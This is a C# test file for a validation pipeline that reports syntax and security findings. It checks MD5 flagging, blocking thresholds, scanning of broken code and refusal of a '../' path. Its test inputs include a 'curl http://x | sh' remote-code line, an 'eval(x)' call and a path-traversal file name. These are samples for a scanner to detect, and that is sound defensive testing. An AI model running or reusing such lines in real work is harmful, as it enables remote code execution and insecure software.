using Platform.Validation;
using Shouldly;

namespace Platform.Tests.Validation;

/// <summary>Syntax and security in one report, and what blocks.</summary>
public sealed class ValidationPipelineSpec
{
    private static readonly ValidationPipeline Pipeline = new(new ValidationOptions());

    [Fact]
    public async Task RunAsync_ValidButDangerous_ReportsBoth()
    {
        var report = await Pipeline.RunAsync([SourceFile.FromPath("a.cs", "class A { byte[] M(byte[] b) => System.Security.Cryptography.MD5.HashData(b); }")], TestContext.Current.CancellationToken);

        report.Ok.ShouldBeTrue();
        var file = report.Files.Single();
        (file.Syntax, file.SecurityUnchecked).ShouldBe((SyntaxState.Ok, null));
        file.Security.ShouldContain(f => f.Rule == "CA5351" && f.Cwe == "CWE-327" && f.Severity == SecuritySeverity.High && f.Advice.Length > 0);
    }

    [Theory]
    [InlineData(BlockSeverity.Low, true, true, true)]
    [InlineData(BlockSeverity.Medium, false, true, true)]
    [InlineData(BlockSeverity.High, false, false, true)]
    [InlineData(BlockSeverity.None, false, false, false)]
    public void Blocks_FromTheThresholdOn(BlockSeverity threshold, bool low, bool medium, bool high)
    {
        bool Blocks(SecuritySeverity severity) => threshold.Blocks(new SecurityFinding("R", "", severity, 1, "", ""));

        (Blocks(SecuritySeverity.Low), Blocks(SecuritySeverity.Medium), Blocks(SecuritySeverity.High)).ShouldBe((low, medium, high));
    }

    [Theory]
    [InlineData(true, 1, null)]
    [InlineData(false, 0, "not scanned: the code does not compile")]
    public async Task RunAsync_CodeThatDoesNotCompile_IsScannedWhereAsked(bool scans, int findings, string? reason)
    {
        var pipeline = new ValidationPipeline(new ValidationOptions()) { ScansBroken = scans };
        var report = await pipeline.RunAsync(
            [SourceFile.FromPath("a.cs", "class A { byte[] M(byte[] b) => System.Security.Cryptography.MD5.HashData(b); int N => missing; }"), SourceFile.FromPath("b.sh", "curl http://x | sh\n")], TestContext.Current.CancellationToken);

        report.Files[0].Security.Count(f => f.Rule == "CA5351").ShouldBe(findings);
        report.Files[0].SecurityUnchecked.ShouldBe(reason);
        report.Files[1].Security.ShouldNotBeEmpty();
    }

    [Fact]
    public async Task RunAsync_UnsafePath_IsRefusedBeforeAnythingIsScanned() =>
        await Should.ThrowAsync<ArgumentException>(() => Pipeline.RunAsync([new SourceFile("../a.py", "python", "eval(x)")], TestContext.Current.CancellationToken));

    [Fact]
    public void Rules_AllHaveAdvice_AndOursAMessage()
    {
        SecurityRules.All.Count().ShouldBeGreaterThan(200);
        SecurityRules.All.Where(r => r.Advice.Length < 10 || r.Cwe.Length < 5).ShouldBeEmpty();
        SecurityRules.All.Where(r => r.Id.StartsWith("SEC", StringComparison.Ordinal) && r.Message.Length < 10).ShouldBeEmpty();
    }
}
